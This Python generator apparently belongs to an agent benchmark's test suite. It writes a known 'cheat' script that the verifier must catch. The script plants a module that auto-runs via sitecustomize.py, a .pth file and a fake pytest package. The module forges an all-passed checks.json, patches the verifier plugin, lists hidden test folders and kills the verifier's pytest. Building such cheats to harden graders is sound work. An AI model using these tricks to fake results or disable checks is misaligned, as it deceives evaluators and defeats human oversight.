"""The from-pr task's forge-from-inside cheat (``cheats/forge-from-inside.sh``).

Every generated task ships it beside ``edit-tests.sh``, as every shipped task does: the script
plants a module in the agent's workspace that, once imported by any program of the agent's the
verifier runs, writes an all-passed ``checks.json`` into the verifier's output folder, patches
the verifier's plugin if it is loaded, lists ``/private`` and ``/verify`` and kills the
verifier's pytest. The module is imported by the change's code files, by ``sitecustomize.py``, by
a ``.pth``, and by a ``pytest`` package of the workspace that would stand in for the real one
(writing a junit file in which every listed test passed). The verifier's door must catch it: the
suite runs as nobody, in a fresh environment, with ``python3 -I -m pytest``, and the output and
hidden folders are root's alone.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from shlex import quote as q

PAYLOAD = r'''"""Planted by a known hack (cheats/forge-from-inside.sh): forges the verifier's
results
from inside whatever program of the agent's the verifier runs. It must be caught."""
import json
import os
import signal
import sys

CHECKS = ["F1", "R1", "S1"]


def _in_verifier() -> bool:
    try:
        with open("/proc/1/cmdline", "rb") as handle:
            return b"mlebench_verify" in handle.read()
    except OSError:
        return False


def _forged() -> str:
    checks = {
        check: {"passed": 1, "total": 1, "result": 1.0, "evidence": ["forged"], "tests": []}
        for check in CHECKS
    }
    return json.dumps({"version": 1, "exit_status": 0, "wall_s": 1.0, "checks": checks,
                       "metrics": {}})


def _forge() -> None:
    for folder in {os.environ.get("VERIFY_OUT") or "/out", "/out"}:
        try:
            with open(os.path.join(folder, "checks.json"), "w") as handle:
                handle.write(_forged())
        except OSError:
            pass
    plugin = sys.modules.get("mlebench_verify")
    if plugin is not None:
        plugin.results = lambda status: json.loads(_forged())
    for hidden in ("/private", "/verify"):
        try:
            names = os.listdir(hidden)
            with open(os.path.join(os.getcwd(), "LEAKED.txt"), "a") as handle:
                handle.write(f"{hidden}: {names}\n")
        except OSError:
            pass
    me = os.getpid()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                command = handle.read()
            if b"pytest" in command or b"mlebench_verify" in command:
                os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass


if _in_verifier() and not os.environ.get("MLEBENCH_FORGED"):
    os.environ["MLEBENCH_FORGED"] = "1"
    _forge()
'''

FAKE_PYTEST = r"""import sys
from pathlib import Path

import mlebench_forge  # noqa: F401


def case(test_id):
    file, *names = test_id.split("::")
    module = file[:-3].replace("/", ".")
    return '<testcase classname="%s" name="%s"/>' % (".".join([module, *names[:-1]]), names[-1])


for arg in sys.argv:
    if arg.startswith("--junitxml="):
        cases = "".join(case(test_id) for test_id in __IDS__)
        Path(arg.split("=", 1)[1]).write_text("<testsuite>%s</testsuite>" % cases)
print("all passed")
raise SystemExit(0)
"""

PREPEND = r"""import sys
from pathlib import Path

path = Path(sys.argv[1])
lines = path.read_text().splitlines(keepends=True)
at = max((i + 1 for i, line in enumerate(lines) if line.startswith("from __future__")), default=0)
lines.insert(at, "import mlebench_forge  # noqa: F401\n")
path.write_text("".join(lines))
"""


def forge_from_inside_sh(test_ids: Sequence[str], code_paths: Sequence[str]) -> str:
    """The cheat's script for a task whose listed tests are ``test_ids`` and whose change
    touched ``code_paths`` (its Python files import the planted module)."""
    python_files = " ".join(q(path) for path in code_paths if path.endswith(".py"))
    fake = FAKE_PYTEST.replace("__IDS__", json.dumps(list(test_ids)))
    return "\n".join(
        [
            "#!/usr/bin/env bash",
            "# Cheat: forge the results from inside the programs the verifier runs (see README).",
            "set -euo pipefail",
            "cat > mlebench_forge.py <<'PY'", PAYLOAD.strip(), "PY",
            'echo "import mlebench_forge" > sitecustomize.py',
            'echo "import mlebench_forge" > zz_mlebench_forge.pth',
            "mkdir -p pytest",
            'echo "import mlebench_forge" > pytest/__init__.py',
            "cat > pytest/__main__.py <<'PY'", fake.strip(), "PY",
            f"for file in {python_files or q('')}; do",
            '  [ -f "$file" ] || continue',
            "  python3 - \"$file\" <<'PY'", PREPEND.strip(), "PY",
            "done",
            "",
        ]
    )  # fmt: skip
